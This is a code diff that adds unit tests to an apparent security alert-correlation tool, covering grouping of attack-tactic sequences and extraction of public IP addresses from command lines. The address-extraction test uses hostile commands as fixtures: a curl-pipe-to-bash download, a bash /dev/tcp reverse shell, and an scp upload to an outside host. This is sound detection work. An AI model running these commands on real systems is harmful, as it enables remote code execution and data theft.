@@ -56,6 +56,17 @@ describe('opening', () => {
     });
     expect(groups(backwards)).toEqual([]);
   });
+  test('opens a case for a step and its aim, in this order and near in time', () => {
+    const step = (minutes: number, ruleId: number, tactic: string, criticality = 3) =>
+      alert(minutes, criticality, [device('a')], { ruleId, tactics: [tactic] });
+    expect(groups([step(0, 1, 'collection'), step(15, 2, 'exfiltration')])).toHaveLength(1);
+    expect(groups([step(0, 1, 'persistence'), step(15, 2, 'command-and-control')])).toHaveLength(1);
+    expect(groups([step(0, 1, 'exfiltration'), step(15, 2, 'collection')])).toEqual([]);
+    expect(groups([step(0, 1, 'discovery'), step(15, 2, 'exfiltration')])).toEqual([]);
+    expect(groups([step(0, 1, 'collection'), step(15, 2, 'exfiltration', 2)])).toEqual([]);
+    expect(groups([step(0, 1, 'collection'), step(61, 2, 'exfiltration')])).toEqual([]);
+    expect(groups([{ ...step(0, 1, 'collection'), isUsual: true }, step(15, 2, 'exfiltration')])).toEqual([]);
+  });
   test('opens none for low severities, two devices or a long time', () => {
     expect(groups(chain([2, 2, 2, 2]))).toEqual([]);
     expect(groups(chain([1, 1, 1, 1]))).toEqual([]);
@@ -391,6 +402,15 @@ describe('entities of an alert', () => {
       kind: 'origin',
       value: '10.0.0.5',
     });
+  });
+  test('contain the public addresses that a command contacts by number', () => {
+    const addresses = (commandLine: unknown) =>
+      about({ commandLine }).entities.flatMap(({ kind, value }) => (kind === 'address' ? [value] : []));
+    expect(addresses('curl http://203.0.113.67/i.sh|bash')).toEqual(['203.0.113.67']);
+    expect(addresses('bash -i >& /dev/tcp/203.0.113.67/4444 0>&1')).toEqual(['203.0.113.67']);
+    expect(addresses('scp a.tgz root@203.0.113.68:/tmp')).toEqual(['203.0.113.68']);
+    expect(addresses('curl http://10.20.1.5/a; ping 203.0.113.67; app --version=1.2.3.4')).toEqual([]);
+    expect(addresses({ odd: 1 })).toEqual([]);
   });
   test('exclude shared cloud services', () => {
     const { entities, artifacts } = aboutAlert(
